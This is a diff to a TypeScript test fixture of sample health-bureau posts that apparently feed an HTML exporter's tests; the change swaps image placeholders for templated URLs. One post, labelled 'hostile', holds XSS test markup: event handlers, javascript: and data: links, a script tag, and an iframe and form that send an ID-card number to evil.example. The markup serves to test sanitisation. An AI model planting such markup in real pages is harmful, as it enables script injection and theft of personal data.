@@ -84,7 +84,7 @@ export const POSTS_2021: readonly Post[] = [
   },
   {
     id: 'svg', at: '2022-10-10 10:10:00', title: '世界精神卫生日：健康心理互动图', copies: folder, lists: ['exporter'],
-    body: ['点击图片，了解情绪管理方法。', '<section style="text-align: center;"><svg viewBox="0 0 1 1" style="float:left;line-height:0;width:0;vertical-align:top;"></svg></section>', '<section style="overflow: hidden;"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 480 320" style="background-image: url(&quot;SVGPIC&quot;);background-size: 100% auto;width: 100%;"><g opacity="0"><animate attributeName="opacity" begin="click" dur="0.5s" values="0;1" fill="freeze"></animate><rect width="480" height="320"></rect></g></svg></section>', '心理援助热线：0740-2210110。'],
+    body: ['点击图片，了解情绪管理方法。', '<section style="text-align: center;"><svg viewBox="0 0 1 1" style="float:left;line-height:0;width:0;vertical-align:top;"></svg></section>', '<section style="overflow: hidden;"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 480 320" style="background-image: url(&quot;{{url:scene-mood.jpg}}&quot;);background-size: 100% auto;width: 100%;"><g opacity="0"><animate attributeName="opacity" begin="click" dur="0.5s" values="0;1" fill="freeze"></animate><rect width="480" height="320"></rect></g></svg></section>', '心理援助热线：0740-2210110。'],
     expect: say('health', { warn: ['svg-interactive'] }), odd: ['svg spacer, and an interactive svg whose picture is only a CSS background'],
   },
   {
@@ -94,7 +94,7 @@ export const POSTS_2021: readonly Post[] = [
   },
   {
     id: 'hostile', at: '2023-02-14 03:03:00', title: '健康提醒：谨防养生保健骗局', copies: folder, lists: ['exporter', 'console'],
-    body: ['<p onclick="alert(1)" style="width: expression(alert(1));behavior: url(evil.htc)">近期有不法分子冒充我局工作人员推销保健品，请勿轻信。</p>', '<script>document.write("<p>inserted</p>")</script>', '<p><img src="x" onerror="alert(1)" data-src="PICTURE" data-w="480" data-ratio="0.6667"></p>', '<p><a href="javascript:alert(1)">领取礼品</a>　<a href="&#x6a;avascript:alert(2)">登记</a>　<a href="data:text/html,<script>alert(3)</script>">查询</a></p>', '<iframe src="http://evil.example/frame" width="1" height="1"></iframe><form action="http://evil.example/post"><input name="idcard" placeholder="身份证号"><button>提交</button></form>', '<object data="http://evil.example/x.swf"></object><svg onload="alert(4)"><a xlink:href="javascript:alert(5)"><text>点我</text></a></svg><math><mi xlink:href="javascript:alert(6)">x</mi></math>', '如遇类似情况，请拨打0740-2210088核实。'],
+    body: ['<p onclick="alert(1)" style="width: expression(alert(1));behavior: url(evil.htc)">近期有不法分子冒充我局工作人员推销保健品，请勿轻信。</p>', '<script>document.write("<p>inserted</p>")</script>', '<p><img src="{{url:scene-fraud.jpg}}" onerror="alert(1)" data-w="480" data-ratio="0.6667"></p>', '<p><a href="javascript:alert(1)">领取礼品</a>　<a href="&#x6a;avascript:alert(2)">登记</a>　<a href="data:text/html,<script>alert(3)</script>">查询</a></p>', '<iframe src="http://evil.example/frame" width="1" height="1"></iframe><form action="http://evil.example/post"><input name="idcard" placeholder="身份证号"><button>提交</button></form>', '<object data="http://evil.example/x.swf"></object><svg onload="alert(4)"><a xlink:href="javascript:alert(5)"><text>点我</text></a></svg><math><mi xlink:href="javascript:alert(6)">x</mi></math>', '如遇类似情况，请拨打0740-2210088核实。'],
     expect: say('health', { maybe: ['content-lost', 'link-broken', 'service-link', 'svg-interactive', 'media-missing'] }), odd: ['hostile markup: scripts, handlers, `javascript:` and `data:` links, iframe, form, object, style expression'],
   },
 ]
